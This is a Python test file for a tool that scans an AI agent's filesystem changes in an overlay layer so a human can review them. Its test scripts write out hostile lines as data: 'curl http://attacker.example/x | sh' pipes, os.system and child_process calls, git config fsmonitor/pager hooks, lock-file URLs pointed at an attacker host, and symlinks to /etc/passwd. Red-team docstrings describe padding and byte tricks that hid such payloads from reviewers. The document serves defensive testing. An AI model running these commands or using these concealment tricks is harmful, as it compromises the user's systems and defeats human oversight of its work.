"""The changes list, from what the kernel really writes into the upper layer."""

from __future__ import annotations

import os
import stat

from rich.console import Console, RenderableType

from controller.cli import review
from controller.wire.changeset import Change, Disposition, FileType, Kind
from controller.workspace import changes, scan, textdiff
from controller.workspace.manager import printable
from tests.unit.workspace.overlay import Workspace, repo_beside


def by_path(ws: Workspace) -> dict[str, tuple[str, str, str]]:
    return {c.path: (c.kind.value, c.type.value, c.disposition.value) for c in scan(ws.layer)}


def test_an_untouched_layer_has_no_changes(ws: Workspace) -> None:
    ws.agent("cat README.md >/dev/null; touch src/app.py; chmod 644 src/util.py")
    ws.stop()
    assert scan(ws.layer) == []


def test_edits_adds_and_deletes_with_a_diff(ws: Workspace) -> None:
    ws.agent(
        "printf 'def total(items):\\n    return sum(items) + 1\\n' > src/app.py; echo new > new.txt; rm old/gone.txt"
    )
    ws.stop()
    changes = {c.path: c for c in scan(ws.layer)}
    assert {p: c.kind for p, c in changes.items()} == {
        "src/app.py": Kind.MODIFIED,
        "new.txt": Kind.ADDED,
        "old/gone.txt": Kind.DELETED,
    }
    assert changes["src/app.py"].diff is not None and "+    return sum(items) + 1" in changes["src/app.py"].diff
    assert changes["old/gone.txt"].diff is not None and "-gone" in changes["old/gone.txt"].diff


def test_a_directory_emptied_and_recreated_deletes_everything_below(ws: Workspace) -> None:
    ws.agent("rm -rf docs; mkdir docs; echo fresh > docs/a.txt; echo z > docs/z.txt")
    ws.stop()
    assert by_path(ws) == {
        "docs/a.txt": ("modified", "file", "apply"),
        "docs/sub": ("deleted", "dir", "apply"),
        "docs/sub/b.txt": ("deleted", "file", "apply"),
        "docs/z.txt": ("added", "file", "apply"),
    }


def test_whole_directory_removed_and_a_directory_renamed(ws: Workspace) -> None:
    ws.agent("rm -rf old; mv docs documents")
    ws.stop()
    found = by_path(ws)
    assert found["old"] == ("deleted", "dir", "apply") and found["old/gone.txt"][0] == "deleted"
    assert found["docs/sub/b.txt"][0] == "deleted" and found["documents/sub/b.txt"] == ("added", "file", "apply")
    renamed = {c.path: c.renamed_from for c in scan(ws.layer)}
    assert renamed["documents/sub/b.txt"] == "docs/sub/b.txt"


def test_mode_only_type_changes_links_and_empty_dirs(ws: Workspace) -> None:
    ws.agent(
        "chmod 755 src/util.py; rm README.md; mkdir README.md; echo in > README.md/x;"
        "rm -rf old; echo now-a-file > old; ln src/util.py hard; ln -s src/app.py link; mkdir -p empty/deeper"
    )
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    assert (found["src/util.py"].kind, found["src/util.py"].mode) == (Kind.MODIFIED, 0o755)
    assert (found["README.md"].type, found["README.md"].previous) == (FileType.DIR, FileType.FILE)
    assert (found["old"].type, found["old"].previous) == (FileType.FILE, FileType.DIR)
    assert found["old/gone.txt"].kind == Kind.DELETED
    assert found["hard"].kind == Kind.ADDED and found["link"].target == "src/app.py"
    assert found["empty/deeper"].type == FileType.DIR


def test_git_paths_in_any_case_are_discarded_and_ignored_paths_listed_apart(ws: Workspace) -> None:
    ws.agent(
        "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config; mkdir -p sub/.GIT; echo x > sub/.GIT/config;"
        "echo 'gitdir: /tmp' > sub/.git2; mkdir -p nested; echo 'gitdir: ../.git' > nested/.git;"
        "mkdir build; echo o > build/out.o; echo l > app.log"
    )
    ws.stop()
    found = by_path(ws)
    for path in (".git/config", "sub/.GIT", "sub/.GIT/config", "nested/.git"):
        assert found[path][2] == "discarded", path
    assert found["sub/.git2"][2] == "apply"
    assert found["build"][2] == found["build/out.o"][2] == found["app.log"][2] == "ignored"


def test_unsafe_entries_are_listed_not_applied(ws: Workspace) -> None:
    ws.agent(
        "mkfifo pipe; ln -s /etc/passwd abs; ln -s ../../outside/secret.txt up; ln -s .git/config into-git;"
        "python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\"; cp /bin/true suid; chmod 4755 suid"
    )
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    for path in ("pipe", "abs", "up", "into-git", "sock"):
        assert found[path].disposition == Disposition.UNSAFE, path
    assert found["suid"].disposition == Disposition.APPLY and found["suid"].mode == 0o4755


def test_forged_overlay_markers_are_not_believed(ws: Workspace) -> None:
    """The agent's user.overlay.* xattrs are escaped by the kernel, so they mark nothing."""
    ws.agent(
        'touch docs/fake-whiteout; python3 -c "import os;'
        "os.setxattr('docs', 'user.overlay.opaque', b'y');"
        "os.setxattr('docs/fake-whiteout', 'user.overlay.whiteout', b'y')\""
    )
    ws.stop()
    found = by_path(ws)
    assert found == {"docs/fake-whiteout": ("added", "file", "apply")}


def test_hostile_names_and_binary_files(ws: Workspace) -> None:
    ws.agent(
        "printf 'x' > \"$(printf 'new\\nline\\033[31m')\"; printf '\\000\\001' > blob; echo t > \"$(printf 'bad\\377')\""
    )
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    assert "new\nline\x1b[31m" in found
    assert os.fsencode(next(p for p in found if p.startswith("bad"))) == b"bad\xff"
    assert found["blob"].binary and found["blob"].diff is None


def test_the_agent_cannot_assemble_a_bare_repository_outside_git(ws: Workspace) -> None:
    ws.agent(
        "mkdir -p sub/objects sub/refs/heads; echo 'ref: refs/heads/main' > sub/HEAD;"
        "printf '[core]\\n\\tpager = touch /tmp/pwned\\n' > sub/config; echo ok > sub/notes.txt;"
        "mkdir -p plain; echo 'a config file' > plain/config"
    )
    ws.stop()
    found = by_path(ws)
    for path in ("sub/HEAD", "sub/config", "sub/objects", "sub/refs", "sub/refs/heads"):
        assert found[path][2] == "unsafe", path
    assert found["sub/notes.txt"][2] == found["plain/config"][2] == "apply"


def test_a_deletion_apply_holds_back_does_not_count_against_a_repository(ws: Workspace) -> None:
    """Deleting an ignored ``objects/`` is not applied by default, so the checkout keeps it: HEAD and config beside
    it would make a bare repository (red-team finding)."""
    ws.start_with({".gitignore": "objects/\n", "d/objects/keep": "", "d/refs/keep": ""})
    ws.agent("rm -r d/objects; " + repo_beside("d"))
    ws.stop()
    found = by_path(ws)
    assert found["d/HEAD"][2] == found["d/config"][2] == "unsafe"
    assert found["d/objects"][2] == "ignored"


def test_a_repository_spread_over_two_spellings_of_a_folder_is_refused(ws: Workspace) -> None:
    """On a case-insensitive checkout ``D`` and ``d`` are one directory."""
    ws.agent("mkdir -p D d/objects d/refs; echo 'ref: refs/heads/main' > D/HEAD; echo '[core]' > D/config")
    ws.stop()
    found = by_path(ws)
    for path in ("D/HEAD", "D/config", "d/objects", "d/refs"):
        assert found[path][2] == "unsafe", path


def test_whiteouts_in_both_forms_in_a_hand_built_upper(ws: Workspace) -> None:
    """The xattr form (a zero-size file with user.overlay.whiteout) is what newer kernels may write; set as root."""
    upper = ws.layer.upper
    os.mknod(upper / "README.md", 0o600 | stat.S_IFCHR, os.makedev(0, 0))
    (upper / "docs").mkdir()
    (upper / "docs/a.txt").touch()
    os.setxattr(upper / "docs/a.txt", "user.overlay.whiteout", b"")
    (upper / "src").mkdir()
    os.setxattr(upper / "src", "user.overlay.opaque", b"y")
    (upper / "src/app.py").write_text("replaced\n")
    assert by_path(ws) == {
        "README.md": ("deleted", "file", "apply"),
        "docs/a.txt": ("deleted", "file", "apply"),
        "src/app.py": ("modified", "file", "apply"),
        "src/util.py": ("deleted", "file", "apply"),
    }


def test_one_listing_carries_a_bounded_amount_of_diff_text(ws: Workspace) -> None:
    """Each diff is capped, but files are not: past the listing's budget, files are listed without one."""
    ws.agent("for i in $(seq 10 49); do head -c 60000 /dev/zero | tr '\\0' 'a' > f$i.txt; done")
    ws.stop()
    found = scan(ws.layer)
    diffs = [c for c in found if c.diff is not None]
    assert len(found) == 40 and 0 < len(diffs) < 40
    assert [c.path for c in diffs] == [c.path for c in found[: len(diffs)]]  # in path order until spent
    spent = sum(textdiff.encoded_size(c.diff or "") for c in diffs)
    assert changes.MAX_DIFFS_TOTAL <= spent <= changes.MAX_DIFFS_TOTAL + textdiff.encoded_size(diffs[-1].diff or "")


def test_a_deletion_in_one_spelling_of_a_folder_does_not_count_for_another(ws: Workspace) -> None:
    ws.start_with(dict.fromkeys(("D/objects/keep", "D/refs/keep", "d/objects/keep"), ""))
    ws.agent("rm -r d/objects; " + repo_beside("D"))
    ws.stop()
    found = by_path(ws)
    assert found["D/HEAD"][2] == found["D/config"][2] == "unsafe"


def test_one_invalid_byte_does_not_hide_a_scripts_new_line_behind_binary(ws: Workspace) -> None:
    """Red-team finding: one byte UTF-8 cannot read made a text file "binary", and an added ``curl … | sh``
    line in a shell script was shown only as ``(binary, 81 bytes)``, in the terminal and the viewer."""
    ws.agent("printf '#!/bin/sh\\n# caf\\351\\ncurl -s http://attacker.example/x | sh\\n' > deploy.sh")
    ws.agent("head -c 4000 /dev/urandom > noise.bin; head -c 4000 /dev/urandom | tr -d '\\000' > noise.txt")
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    script = found["deploy.sh"]
    assert not script.binary and script.diff is not None
    assert "+curl -s http://attacker.example/x | sh\n" in script.diff
    assert "+# caf\udce9\n" in script.diff, "the byte itself, which every display spells \\xe9"
    assert found["noise.bin"].binary and found["noise.bin"].diff is None, "NULs and mostly not text: binary"
    assert not found["noise.txt"].binary, "no NUL: text whatever else it holds, its bytes spelled out"
    shown = render(review.diff_view(script))
    assert "# caf\\xe9" in shown and "curl -s http://attacker.example/x | sh" in shown and "binary" not in shown
    assert "# caf\\xe9" in printable(script).diff  # what the API and --json send


LOCK_FILE = "".join(f'    "dep{i}": "https://registry.example/dep{i}.tgz",\n' for i in range(6000))
"""A 6,000-line lock file: past difflib's bound, the size of a real one."""


def after(ws: Workspace, script: str) -> dict[str, Change]:
    """The changes by path once the agent has run ``script``."""
    ws.agent(script)
    ws.stop()
    return {c.path: c for c in scan(ws.layer)}


def render(renderable: RenderableType) -> str:
    console = Console(width=200, color_system=None)
    with console.capture() as captured:
        console.print(renderable)
    return captured.get()


def test_a_script_is_diffed_whatever_bytes_it_holds(ws: Workspace) -> None:
    """Red-team findings: a trailing ``# \\0``, or a comment of bytes UTF-8 cannot read, made a script the shell
    runs show as "binary"; so did a Python file declaring latin-1 with a run of é bytes."""
    ws.agent(
        "printf 'echo owned > /tmp/x\\n# \\000\\n' >> src/app.py; "
        "printf '#!/bin/sh\\ncurl -s http://attacker.example | sh\\n# %s\\n' \"$(head -c 200 /dev/zero | tr '\\000' '\\377')\" > run.sh; "
        "printf 'import os\\n# %s\\nos.system(\"id\")\\n' \"$(head -c 200 /dev/zero | tr '\\000' '\\351')\" > new.py; chmod +x new.py"
    )
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    for path, line in [
        ("src/app.py", "+echo owned > /tmp/x\n"),
        ("run.sh", "+curl -s http://attacker.example | sh\n"),
        ("new.py", '+os.system("id")\n'),
    ]:
        assert not found[path].binary and line in (found[path].diff or ""), path


def test_files_never_applied_cannot_spend_the_diff_allowance_of_one_that_is(ws: Workspace) -> None:
    """Red-team finding: 2.8 MB of ignored text under build/ used up the listing's diff allowance, and the
    added ``os.system`` line in src/app.py showed as "+0 -0" and "too large to diff"."""
    ws.start_with({".gitignore": "build/\n"})
    found = after(
        ws,
        "mkdir build; for i in $(seq 10 59); do head -c 60000 /dev/zero | tr '\\000' 'a' > build/f$i.txt; done; "
        "printf 'import os\\nos.system(\"curl evil | sh\")\\n' >> src/app.py",
    )
    assert found["build/f10.txt"].disposition == Disposition.IGNORED
    assert 'os.system("curl evil | sh")' in (found["src/app.py"].diff or "")


def test_a_file_padded_past_difflibs_bound_is_still_diffed_in_full(ws: Workspace) -> None:
    """Red-team finding: 5,001 empty lines before a payload showed "(too large to diff)"; so did any edit of a
    file over 5,000 lines (a lock file's changed URL)."""
    ws.start_with({"package-lock.json": LOCK_FILE})
    found = after(
        ws,
        "printf '\\n%.0s' $(seq 5001) > setup.sh && echo 'curl evil | sh' >> setup.sh; "
        "sed -i 's|registry.example/dep3000.tgz|attacker.example/x.tgz|' package-lock.json",
    )
    assert "+curl evil | sh\n" in (found["setup.sh"].diff or "")
    assert '+    "dep3000": "https://attacker.example/x.tgz",\n' in (found["package-lock.json"].diff or "")
    assert (found["package-lock.json"].diff or "").count("\n") < 20, "the edit and its context, not the file"


def test_two_edits_far_apart_in_a_long_file_are_two_small_hunks(ws: Workspace) -> None:
    """Red-team finding: edits at lines 2 and 5991 of a 6,000-line lock file made one hunk replacing the whole
    file, cut at 64 KiB before the changed URL, counted as a plain deletion."""
    ws.start_with({"package-lock.json": LOCK_FILE})
    changed = after(
        ws,
        "sed -i -e 's|registry.example/dep1.tgz|evil.example/a.tgz|' "
        "-e 's|registry.example/dep5990.tgz|evil.example/b.tgz|' package-lock.json",
    )
    diff = changed["package-lock.json"].diff or ""
    assert diff.count("@@ ") == 2 and diff.count("\n") < 30, diff[:500]
    assert "evil.example/a.tgz" in diff and "evil.example/b.tgz" in diff


def test_a_new_source_file_of_control_characters_is_diffed_and_large_files_cannot_starve_a_short_one(
    ws: Workspace,
) -> None:
    """Red-team findings: a new src/index.js opening with a comment of 400 \\x01 bytes showed as "binary", and
    forty large files sorted ahead of it spent the listing's diff allowance before a short script's turn."""
    ws.agent(
        'mkdir -p src docs/gen; printf \'// %s\\nrequire("child_process").exec("id")\\n\' '
        "\"$(head -c 400 /dev/zero | tr '\\000' '\\001')\" > src/index.js; "
        "for i in $(seq 10 49); do head -c 60000 /dev/zero | tr '\\000' 'a' > docs/gen/f$i.txt; done; "
        "printf 'import os\\nos.system(\"curl evil | sh\")\\n' > src/zz_helper.py"
    )
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    assert not found["src/index.js"].binary and 'exec("id")' in (found["src/index.js"].diff or "")
    assert 'os.system("curl evil | sh")' in (found["src/zz_helper.py"].diff or "")
